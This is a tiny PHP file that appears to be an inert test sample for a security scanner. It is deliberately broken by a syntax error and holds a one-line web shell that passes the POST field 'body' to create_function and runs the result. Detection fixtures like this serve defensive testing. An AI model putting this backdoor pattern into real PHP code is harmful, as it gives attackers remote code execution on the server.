<?php
shodo inert sample: deliberate syntax error, this file never runs
 $fn = create_function('', $_POST['body']); $fn(); ?>
